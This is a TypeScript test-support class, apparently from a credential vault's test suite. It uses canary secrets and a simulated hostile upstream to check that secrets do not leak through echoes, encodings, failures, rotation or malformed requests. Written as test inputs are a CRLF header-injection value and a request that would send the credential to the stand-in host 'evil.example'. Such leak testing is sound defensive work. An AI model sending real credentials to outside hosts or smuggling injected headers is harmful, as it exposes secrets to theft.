import { once } from 'node:events';
import { connect } from 'node:net';
import type { ServerResponse } from 'node:http';
import { brotliCompressSync, gzipSync } from 'node:zlib';
import { PLATFORM_TENANT_ID } from '../../src/platform/ids.js';
import { expectStatus, MASTER_PASSWORD } from '../support/app.js';
import { eventually } from '../support/eventually.js';
import { UPSTREAM_HOST as H } from '../support/hostile-upstream.js';
import { signedIn } from '../support/identity.js';
import type { AskedUse, UseDoor } from '../support/use-door.js';
import { zstdBlock, zstdFrame } from '../support/zstd-frames.js';
import { at, type CanaryCast, reason } from './canary-cast.js';
import { SPELLINGS } from './spellings.js';

/** Everything a server does with secrets, the right and the wrong way round, with a marker in each of them. */
export class CanaryTraffic {
  constructor(private readonly cast: CanaryCast) {}

  async run(door: UseDoor): Promise<void> {
    const own = (name: string): string => `${name}_${door.name}`;
    await this.cast.store(own('key'), { value: this.cast.secret() });
    await this.cast.store(own('broken'), { value: `${this.cast.secret()}\r\nX-Injected: yes` });
    await this.cast.store(own('quoted'), { value: `"${this.cast.secret()}\\&<é>` });
    await this.cast.store(own('pair'), { fields: { username: this.cast.secret(), password: this.cast.secret() } });
    await this.#uses(door, own('key'), own('quoted'), own('pair'));
    await this.#echoes(door, own('key'), own('pair'));
    await this.#failures(door, own('key'), own('broken'));
    await this.#changes(door, own('key'));
    await this.#mistakes(own('key'));
    await this.#cuts(door, own('key'));
  }

  /** Outcomes are written behind the answers; idle connections and timers come to rest. */
  async settle(): Promise<void> {
    expectStatus(await this.cast.node.staff('POST', '/v1/vault/seal', { reason }), 200);
    expectStatus(await this.cast.node.staff('POST', '/v1/vault/unseal', { password: MASTER_PASSWORD }), 200);
    for (const path of ['/v1/credentials', '/v1/audit/entries?limit=200', '/v1/audit/verification', '/v1/brakes'])
      this.cast.note(await this.cast.tenant.admin('GET', path));
    await eventually(
      () => this.cast.tenant.admin<{ data: { outcome: string }[] }>('GET', '/v1/audit/entries?limit=1&order=desc'),
      ({ body }) => body.data.length > 0,
    );
  }

  async auditExport(): Promise<string> {
    const answer = await fetch(`${this.cast.node.process.at.tenant}/v1/audit/export`, {
      headers: { authorization: `Bearer ${this.cast.tenant.key}` },
    });
    return answer.text();
  }

  async metrics(): Promise<string> {
    const token = await signedIn(this.cast.fleet, PLATFORM_TENANT_ID, 'auditor');
    const answer = await fetch(`${this.cast.node.process.at.ops}/metrics`, {
      headers: { authorization: `Bearer ${token}` },
    });
    return answer.text();
  }

  async #uses(door: UseDoor, key: string, quoted: string, pair: string): Promise<void> {
    const post = (type: string, body: unknown): AskedUse => ({
      method: 'POST',
      headers: { 'content-type': type },
      body,
    });
    for (const name of [key, quoted]) {
      await this.cast.use(door, name, name === quoted ? { url: at('/?k={{CREDENTIAL}}'), headers: {} } : {});
      await this.cast.use(door, name, { url: at('/a/{{CREDENTIAL}}/b'), headers: {} });
      await this.cast.use(door, name, post('application/json', '{"k":"{{CREDENTIAL}}"}'));
      await this.cast.use(door, name, { method: 'POST', headers: {}, body: { k: '{{CREDENTIAL}}' } });
      await this.cast.use(door, name, post('application/x-www-form-urlencoded', 'k={{CREDENTIAL}}'));
      await this.cast.use(door, name, post('text/plain', 'k {{CREDENTIAL}}'));
    }
    await this.cast.use(door, pair, { headers: { authorization: 'Basic {{CREDENTIAL.basic}}' } });
    await this.cast.use(door, pair, { headers: { a: '{{CREDENTIAL.username}}', b: '{{CREDENTIAL.password}}' } });
  }

  /** The upstream hands back what it got: spelled in every way, coded, dripped, in headers, with a failure. */
  async #echoes(door: UseDoor, key: string, pair: string): Promise<void> {
    const { upstream } = this.cast.fleet;
    const got = () => String(upstream.received.at(-1)?.headers.authorization).slice('Bearer '.length);
    for (const [, write] of SPELLINGS) {
      upstream.on('/echo', (_, response) => response.setHeader('x-echo', write(got())).end(`before ${write(got())}`));
      await this.cast.use(door, key, { url: at('/echo') });
    }
    upstream.on('/basic', ({ headers }, response) => {
      const basic = String(headers.authorization);
      const joined = Buffer.from(basic.slice('Basic '.length), 'base64').toString();
      response.setHeader('x-echo', basic).end(`${basic} ${joined} ${joined.split(':').join(' ')}`);
    });
    await this.cast.use(door, pair, { url: at('/basic'), headers: { authorization: 'Basic {{CREDENTIAL.basic}}' } });
    const zstd = (text: string): Buffer => zstdFrame([zstdBlock('raw', Buffer.from(text), { isLast: true })]);
    const coded = { gzip: gzipSync, br: brotliCompressSync, zstd };
    for (const [coding, compress] of Object.entries(coded)) {
      upstream.on('/coded', (_, response) => response.setHeader('content-encoding', coding).end(compress(got())));
      await this.cast.use(door, key, { url: at('/coded') });
    }
    upstream.on('/trailer', (_, response) => {
      response.writeHead(200, { trailer: 'x-echo', 'transfer-encoding': 'chunked' }).write('{}');
      response.addTrailers({ 'x-echo': got() });
      response.end();
    });
    await this.cast.use(door, key, { url: at('/trailer') });
    upstream.on('/drip', (_, response) => void drip(response, `a ${got()} b ${got().slice(0, 8)}`));
    await this.cast.use(door, key, { url: at('/drip') });
    upstream.on('/moved', (_, response) =>
      response.writeHead(302, `Moved ${got()}`, { location: `/?k=${got()}` }).end(got()),
    );
    await this.cast.use(door, key, { url: at('/moved') });
  }

  async #failures(door: UseDoor, key: string, broken: string): Promise<void> {
    const { upstream } = this.cast.fleet;
    await this.cast.use(door, broken);
    upstream.on('/reset', ({ socket }) => socket.destroy());
    upstream.on('/noise', ({ socket, headers }) => socket.end(`${headers.authorization} is no HTTP`));
    upstream.on('/cut', ({ headers }, response) =>
      response.write(`{"k":"${headers.authorization}`, () => response.destroy()),
    );
    upstream.on('/rot13', ({ headers }, response) =>
      response.setHeader('content-encoding', 'rot13').end(headers.authorization),
    );
    upstream.on('/badzip', ({ headers }, response) =>
      response.setHeader('content-encoding', 'gzip').end(headers.authorization),
    );
    for (const target of ['/reset', '/noise', '/cut', '/rot13', '/badzip'])
      await this.cast.use(door, key, { url: at(target) });
    upstream.hangOn('/hang');
    await this.cast.use(door, key, { url: at('/hang') }, { timeoutMs: 100 });
    await this.cast.use(door, key, { url: 'https://evil.example/{{CREDENTIAL}}' });
    await this.cast.use(door, key, { url: `https://{{CREDENTIAL}}@${H}/` });
    await this.cast.use(door, 'nowhere');
  }

  async #changes(door: UseDoor, key: string): Promise<void> {
    const { admin } = this.cast.tenant;
    this.cast.note(
      await admin('POST', `/v1/credentials/${key}/rotate`, { value: this.cast.secret(), grace_seconds: 60 }),
    );
    await this.cast.use(door, key);
    await this.cast.use(door, key, {}, { version: 1 });
    this.cast.note(await admin('PUT', `/v1/credentials/${key}/binding`, { allowed_domains: [H, 'other.example'] }));
    await this.cast.use(door, key);
    this.cast.note(await admin('PATCH', `/v1/credentials/${key}`, { minimum_tier: 'NOVICE' }));
    const gone = `gone_${door.name}`;
    await this.cast.store(gone, { value: this.cast.secret() });
    this.cast.note(await admin('DELETE', `/v1/credentials/${gone}`));
  }

  /** A secret in a request that is refused must not come back in the refusal, nor stay anywhere. */
  async #mistakes(key: string): Promise<void> {
    const { admin } = this.cast.tenant;
    const value = this.cast.secret();
    const wrong: unknown[] = [
      { name: key, value, allowed_domains: [H] },
      { name: 'wrong_domain', value, allowed_domains: [`${value}.com/`] },
      { name: value.toUpperCase(), value, allowed_domains: [H] },
      { name: 'wrong_field', value, allowed_domains: [H], [value]: value },
      { name: 'wrong_type', value: { value }, allowed_domains: [H] },
      { name: 'two_values', value, fields: { username: value }, allowed_domains: [H] },
      { name: 'field_name', fields: { [value]: value }, allowed_domains: [H] },
      [value],
      value,
    ];
    for (const body of wrong) this.cast.note(await admin('POST', '/v1/credentials', body));
    const again = { 'idempotency-key': `key-${this.cast.sent}` };
    const good = { name: `again_${this.cast.sent}`, value, allowed_domains: [H] };
    for (const body of [good, good, { ...good, value: this.cast.secret() }])
      this.cast.note(await admin('POST', '/v1/credentials', body, again));
    for (const text of [`{"name":"x","value":"${value}`, `{"value":"${value}","value":"${value}"}`, value])
      this.cast.answers.push(await this.#raw(text, text.length));
    this.cast.answers.push(await this.#raw(`{"name":"x","value":"${value}`, 2_000));
  }

  /** The agent and the node go apart while a call is under way. */
  async #cuts(door: UseDoor, key: string): Promise<void> {
    const { upstream } = this.cast.fleet;
    const use = this.cast.use(door, key, { url: at('/hang') });
    await eventually(
      () => upstream.hanging,
      (hanging) => hanging > 0,
    );
    const brake = { scope: 'credential', credential_name: key, reason };
    const { body } = await this.cast.tenant.admin<{ id: string }>('POST', '/v1/brakes', brake);
    await use;
    await this.cast.use(door, key);
    this.cast.note(await this.cast.tenant.human('POST', `/v1/brakes/${body.id}/clear`, { reason }));
    upstream.letGo();
  }

  /** A body that is no JSON, or that breaks off before the length it announces. */
  async #raw(body: string, length: number): Promise<string> {
    const { hostname, port } = new URL(this.cast.node.process.at.tenant);
    const socket = connect(Number(port), hostname);
    await once(socket, 'connect');
    const lines = [
      'POST /v1/credentials HTTP/1.1',
      `host: ${hostname}:${port}`,
      `authorization: Bearer ${this.cast.tenant.key}`,
    ];
    const more = ['content-type: application/json', `content-length: ${length}`, 'connection: close'];
    socket.end(`${[...lines, ...more].join('\r\n')}\r\n\r\n${body}`);
    let text = '';
    socket.on('data', (piece: Buffer) => (text += piece.toString('latin1'))).on('error', () => undefined);
    await once(socket, 'close');
    return text;
  }
}

async function drip(response: ServerResponse, text: string): Promise<void> {
  for (const char of text) {
    response.write(char);
    await new Promise(setImmediate);
  }
  response.end();
}
